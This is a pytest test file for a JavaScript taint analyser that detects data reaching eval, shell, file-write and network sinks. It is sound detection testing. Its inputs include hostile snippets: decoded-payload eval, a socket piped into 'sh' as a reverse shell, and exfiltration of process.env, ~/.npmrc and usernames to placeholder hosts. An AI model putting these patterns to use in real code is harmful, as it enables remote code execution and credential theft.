"""Flows: data that reaches a sink, and what is no flow into it."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.languages.javascript.reading import C, FlatFlow, N, P, W, facts, flows

LONG = "a" * 200


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (f"eval('{LONG}')", (C, "eval", {Taint.LITERAL})),
        ("eval(atob(x))", (C, "eval", {Taint.DECODED})),
        ("import('data:text/javascript' + ';base64,ZigxKQ==')", (C, "import", {Taint.DECODED})),
        ("new Worker('data:text/javascript;base64,ZigxKQ==')", (C, "Worker", {Taint.DECODED})),
        (
            "const [s] = WebAssembly.Module.customSections(m, 'x'); eval(new TextDecoder().decode(s))",
            (C, "eval", {Taint.DECODED}),
        ),
        (
            "const p = '/tmp/a.node'; fetch(u).then(r => require('fs').writeFileSync(p, r)); process.dlopen(m, p)",
            (Capability.NATIVE, "process.dlopen", {Taint.NETWORK}),
        ),
        ("(0, eval)(atob(x))", (C, "eval", {Taint.DECODED})),
        ("window['ev' + 'al'](atob(x))", (C, "eval", {Taint.DECODED})),
        ("eval.call(null, atob(x))", (C, "eval", {Taint.DECODED})),
        ("new Function('a', atob(x))", (C, "Function", {Taint.DECODED})),
        ("[].constructor.constructor(atob(x))()", (C, "Function", {Taint.DECODED})),
        ("setTimeout(atob(x), 5)", (C, "setTimeout", {Taint.DECODED})),
        ("module._compile(atob(x), '')", (C, "module._compile", {Taint.DECODED})),
        ("new module.constructor()._compile(atob(x), '')", (C, "module._compile", {Taint.DECODED})),
        ("require('vm').runInThisContext(atob(x))", (C, "vm.runInThisContext", {Taint.DECODED})),
        ("new (require('vm').Script)(atob(x)).runInThisContext()", (C, "vm.Script", {Taint.DECODED})),
        ("eval(xs.map(x => String.fromCharCode(x ^ 5)).join(''))", (C, "eval", {Taint.COMPUTED})),
        ("eval(require('fs').readFileSync(__dirname + '/p.dat', 'utf8'))", (C, "eval", {Taint.FILE})),
        (
            "require('vm').runInThisContext(require('./data.json').a)",
            (C, "vm.runInThisContext", {Taint.FILE}),
        ),
        ("fetch(u).then(r => r.text()).then(t => eval(t))", (C, "eval", {Taint.NETWORK})),
        ("fetch(u).then(r => r.text()).then(eval)", (C, "eval", {Taint.NETWORK})),
        ("new Worker(atob(x), {eval: true})", (C, "Worker", {Taint.DECODED})),
        ("new Worker(URL.createObjectURL(new Blob([atob(x)])))", (C, "Worker", {Taint.DECODED})),
        ("require('child_process').exec(atob(x))", (P, "child_process.exec", {Taint.DECODED})),
        (
            "require('child_process').spawn('sh', ['-c', atob(x)])",
            (P, "child_process.spawn", {Taint.DECODED}),
        ),
        ("require('child_process').spawn(process.env.TOOL)", (P, "child_process.spawn", {Taint.ENVIRONMENT})),
        (
            "const s = require('net').connect(1, h); s.pipe(require('child_process').spawn('sh').stdin)",
            (P, "child_process.ChildProcess.stdin.write", {Taint.NETWORK}),
        ),
        ("require('fs').writeFileSync(p, Buffer.from(x, 'hex'))", (W, "fs.writeFileSync", {Taint.DECODED})),
        (
            "require('https').get(u, r => r.pipe(require('fs').createWriteStream(p)))",
            (W, "fs.WriteStream.write", {Taint.NETWORK}),
        ),
        (
            "const q = require('https').request(o); q.write(JSON.stringify(process.env))",
            (N, "http.ClientRequest.write", {Taint.ENVIRONMENT, Taint.WHOLE_ENVIRONMENT}),
        ),
        ("fetch(u, {method: 'POST', body: process.env.SETTING})", (N, "fetch", {Taint.ENVIRONMENT})),
        ("fetch('https://a.invalid/?' + process.env.SETTING)", (N, "fetch", {Taint.ENVIRONMENT})),
        ("require('axios').post(u, {h: require('os').hostname()})", (N, "axios.post", {Taint.IDENTITY})),
        (
            "const fs = require('fs'); fetch(u, {body: fs.readFileSync(home + '/.npmrc')})",
            (N, "fetch", {Taint.FILE, Taint.SECRETS}),
        ),
        (
            "require('dns').lookup(process.env.USER + '.a.b.invalid', f)",
            (N, "dns.lookup", {Taint.ENVIRONMENT, Taint.IDENTITY}),
        ),
        (
            "const s = new WebSocket(u); s.send(process.env.SETTING)",
            (N, "WebSocket.send", {Taint.ENVIRONMENT}),
        ),
        ("fetch(atob(x))", (N, "fetch", {Taint.DECODED})),
    ],
)
def test_data_is_followed_into_each_kind_of_sink(source: str, expected: FlatFlow) -> None:
    assert expected in flows(source)


@pytest.mark.parametrize(
    "source",
    [
        "eval('1 + 1')",
        "eval(x)",
        "new Function('a', 'return ' + x)",
        "setTimeout(() => atob(x), 5)",
        "setTimeout(done, process.env.DELAY)",
        "require('child_process').spawn('sh', {env: process.env})",
        "require('child_process').exec('ls', {env: {...process.env}})",
        "require('fs').writeFileSync(p, JSON.stringify(process.env))",
        "fetch(process.env.API_URL)",
        "fetch(`${process.env.API_URL}/path`)",
        "fetch(u, {timeout: process.env.TIMEOUT, agent: process.env.PROXY})",
        "require('https').request({host: process.env.HOST1, port: process.env.PORT})",
        "fetch(u, {body: require('fs').readFileSync(__dirname + '/own.json')})",
        "fetch(u).then(r => fetch(r.url))",
        "/x/.exec(atob(y))",
        "x[y](z)",
        "process.env.DEBUG && eval(x)",
    ],
)
def test_what_is_no_flow(source: str) -> None:
    assert [] == flows(source)


@pytest.mark.parametrize(
    "source",
    [
        "x[atob(y)](z)",
        "require(atob(y))",
        "import(Buffer.from(y, 'hex').toString())",
        "function e(r) { return Buffer.from(r, 'hex').toString() } x[e(n[3])](z)",
    ],
)
def test_a_call_by_a_decoded_name_is_a_flow(source: str) -> None:
    assert (C, "computed-call", {Taint.DECODED}) in flows(source)


def test_the_origin_is_the_line_of_the_first_source() -> None:
    [flow] = facts("const a = await fetch(u);\nconst b = a + '';\neval(b)").flows

    assert (3, 1) == (flow.line, flow.origin_line)


@pytest.mark.parametrize(
    ("before", "data", "whole"),
    [
        ("", "JSON.stringify(process.env)", True),
        ("", "JSON.stringify({...process.env})", True),
        ("const e = process.env;", "Object.entries(e).map(x => x.join('=')).join()", True),
        ("", "process.env.SAMPLE_KEY", False),
        ("", "process.env[name]", False),
        ("const e = process.env;", "JSON.stringify({t: e.SAMPLE_KEY})", False),
        ("const {SAMPLE_KEY} = process.env;", "SAMPLE_KEY", False),
    ],
)
def test_all_variables_together_are_told_apart_from_one_of_them(before: str, data: str, whole: bool) -> None:
    source = f"{before}function f(name) {{ fetch('https://a.invalid', {{method: 'POST', body: {data}}}); }}"
    ((_, _, taints, *_),) = flows(source)
    assert Taint.ENVIRONMENT in taints
    assert whole == (Taint.WHOLE_ENVIRONMENT in taints)


_MIRRORED = """
const https = require('https');
const HOST = process.env.SAMPLE_MIRROR || 'https://files.invalid/';
const FOLDER = process.env.SAMPLE_FOLDER || 'builds/';
function get(name) {
  const url = HOST + FOLDER + name;
  let options = {};
  if (process.env.SAMPLE_PROXY) { options.host = new URL(HOST).host; options.path = FOLDER + name }
  else { options = url }
  https.get(options, done);
}
"""


def test_options_that_may_be_an_address_send_only_what_either_sends() -> None:
    assert [] == flows(_MIRRORED)


@pytest.mark.parametrize(
    "source",
    [
        "let u = {host: 'a.invalid'}; if (y) u = 'https://b.invalid/?d=' + process.env.KEPT",
        "let u = 'https://a.invalid/'; if (y) u = 'https://b.invalid/?d=' + process.env.KEPT",
        "let u = {host: 'a.invalid'}; if (y) u = {host: 'b.invalid', headers: {a: process.env.KEPT}}",
        "let v = {headers: {a: process.env.KEPT}}, u = 'x'; u = v",
    ],
)
def test_what_any_value_of_the_options_sends_is_told(source: str) -> None:
    assert [(N, "https.get", {Taint.ENVIRONMENT})] == flows(f"{source}; require('https').get(u)")


def test_options_that_name_themselves_are_read_to_an_end() -> None:
    source = "const a = {url: b, data: require('fs').readFileSync('/x')}; var b = {url: a}; fetch(a)"
    assert (N, "fetch", {Taint.FILE}) in flows(source)


def test_an_address_that_shows_its_code_is_no_decoded_data() -> None:
    assert [] == flows("import('data:text/javascript,f(1)')")


@pytest.mark.parametrize(
    "source",
    [
        "async function f() { eval(await (0, a.fetched)(x)) }",
        "async function f() { const x = await (a.fetched)(y); eval(x) }",
        "async function* g() { yield await (0, a.fetched)(x) } async function f() { for await (const p of g()) eval(p) }",
    ],
)
def test_a_call_that_the_grammar_takes_for_one_of_await(source: str) -> None:
    assert (C, "eval", {Taint.NETWORK}) in flows(f"const a = {{fetched: fetch}}; {source}")


@pytest.mark.parametrize(
    "source",
    [
        "const f = new FormData(); f.append('a', process.env.KEPT); fetch('https://a.invalid', {body: f})",
        "const u = new URL('https://a.invalid/x'); u.searchParams.set('a', process.env.KEPT); require('https').get(u.toString())",
    ],
    ids=["a form", "a query"],
)
def test_what_a_form_or_an_address_is_filled_with_is_sent(source: str) -> None:
    assert any(flow[0] is N and Taint.ENVIRONMENT in flow[2] for flow in flows(source))


def test_an_inspector_is_told_to_run_code() -> None:
    head = "const s = new (require('inspector').Session)(); fetch(u).then(expression => "
    assert [(C, "inspector.Session.post", {Taint.NETWORK})] == flows(
        head + "s.post('Runtime.evaluate', {expression}))"
    )
    assert [] == flows(head + "s.post('Profiler.start', {expression}))")


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("eval(fs.readFileSync('../LICENSE', 'utf8'))", True),
        ("eval(fs.readFileSync('a.map').toString().split('').map(c => c > 1 ? 1 : 0).join(''))", True),
        ("eval(fs.readFileSync('./a.txt', 'utf8'))", False),
        ("fs.readFileSync('../LICENSE', 'utf8'); eval(x)", False),
    ],
)
def test_what_is_written_for_readers_is_run(source: str, told: bool) -> None:
    found = facts("const fs = require('fs'); " + source).uses
    assert told == any(use.api == "text-for-readers" for use in found)


def test_an_address_whose_query_is_filled_says_still_where_it_goes() -> None:
    source = "const u = new URL('https://a.invalid/x'); u.searchParams.set('a', process.env.KEPT); fetch(u)"
    assert ["https://a.invalid/x"] == [flow.target for flow in facts(source).flows]


TOKEN = "{headers: {a: process.env.NPM_TOKEN}}"


@pytest.mark.parametrize(
    "source",
    [
        f"fetch(process.env.AT, {TOKEN})",
        f"const u = new URL(process.env.AT); u.searchParams.append('a', 'b'); fetch(u.href, {TOKEN})",
    ],
)
def test_a_token_sent_where_the_environment_says_is_no_theft(source: str) -> None:
    assert [] == flows(source)


@pytest.mark.parametrize(
    "source",
    [
        f"fetch(process.env.AT || 'https://far.invalid/', {TOKEN})",
        f"let u = process.env.AT; u = u || atob(x); fetch(u, {TOKEN})",
        f"process.env.AT = 'https://far.invalid'; fetch(process.env.AT, {TOKEN})",
        "fetch(process.env.AT, {body: JSON.stringify(process.env)})",
        "fetch(process.env.AT, {body: require('fs').readFileSync('/root/.npmrc')})",
        f"fetch(`${{process.env.AT}}.far.invalid/x`, {TOKEN})",
        f"fetch('https://far.invalid/' + process.env.AT, {TOKEN})",
        f"fetch(new URL('https://far.invalid/', process.env.AT), {TOKEN})",
    ],
)
def test_what_may_go_elsewhere_or_is_more_than_a_token_is_sent(source: str) -> None:
    assert [N] == [flow[0] for flow in flows(source)]
